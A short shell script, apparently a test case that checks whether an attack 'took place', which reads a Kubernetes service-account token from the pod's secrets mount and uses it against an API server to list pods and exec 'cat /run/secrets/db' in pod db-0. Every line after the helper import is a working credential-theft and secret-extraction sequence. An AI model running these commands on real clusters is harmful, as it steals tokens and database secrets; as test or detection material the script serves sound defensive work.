#!/bin/sh
. /opt/case/case.sh

d=/var/run/secrets/kubernetes.io/serviceaccount
t=$(cat $d/token); n=$(cat $d/namespace)
curl -sk -H "Authorization: Bearer $t" "http://203.0.113.1:6443/api/v1/namespaces/$n/pods" | grep -q PodList
curl -sk -X POST -H "Authorization: Bearer $t" "http://203.0.113.1:6443/api/v1/namespaces/$n/pods/db-0/exec?command=cat&command=/run/secrets/db&stdout=true" | grep -q .
took_place
